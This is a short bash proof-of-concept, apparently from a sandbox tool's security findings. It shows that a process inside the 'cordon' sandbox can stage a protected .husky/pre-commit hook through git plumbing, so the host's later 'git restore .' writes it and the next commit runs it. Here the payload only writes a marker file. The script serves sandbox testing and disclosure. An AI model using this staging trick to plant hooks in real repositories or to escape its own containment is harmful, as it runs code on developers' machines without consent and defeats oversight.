#!/bin/bash
# Finding (class 2, the general form of crafted-index.sh): objects, refs and the index stay writable
# inside (commits must work), so the sandbox stages ANY protected work-tree path with its own content
# through plumbing (`git update-index --cacheinfo`), no file written; the host's `git restore .` (or
# checkout of a commit the sandbox made and pointed a branch at) writes it. Shown with husky: the
# protected .husky/pre-commit of the workdir's own repository.
# Usage: CORDON=... findings/index-delivers-protected.sh  (root or any user)
set -u
CORDON=${CORDON:-$(pwd)/build/cordon}
B=$(mktemp -d /var/tmp/atk.XXXXXX); chmod 755 "$B"; export HOME=$B/home; mkdir -p "$HOME"
git config --global user.email a@b; git config --global user.name a
W=$B/w; mkdir -p "$W/.husky/_"; cd "$W"; git init -q
printf '#!/bin/sh\nn=$(basename "$0"); s=$(dirname "$(dirname "$0")")/$n\n[ -f "$s" ] || exit 0\nexec sh -e "$s" "$@"\n' > .husky/_/h
printf '#!/bin/sh\n. "$(dirname "$0")/h"\n' > .husky/_/pre-commit; chmod +x .husky/_/h .husky/_/pre-commit
printf 'true\n' > .husky/pre-commit; git config core.hooksPath .husky/_
git add .husky/pre-commit; git commit -qm init
M=$B/MARKER
"$CORDON" run -- sh -c "echo x >> .husky/pre-commit 2>/dev/null || echo '.husky/pre-commit is protected (as it should be)'
  b=\$(printf 'id > $M\n' | git hash-object -w --stdin) && git update-index --cacheinfo 100755,\$b,.husky/pre-commit && echo 'staged through the index'" 2>&1 | grep -v '^cordon: refused'
git restore . >/dev/null 2>&1
git commit -q --allow-empty -m next >/dev/null 2>&1
rc=0; if [ -e "$M" ]; then echo "ESCAPE: after the host's git restore ., its commit ran the .husky/pre-commit the sandbox staged: $(cat "$M")"; rc=1; else echo held; fi
rm -rf "$B"; exit $rc
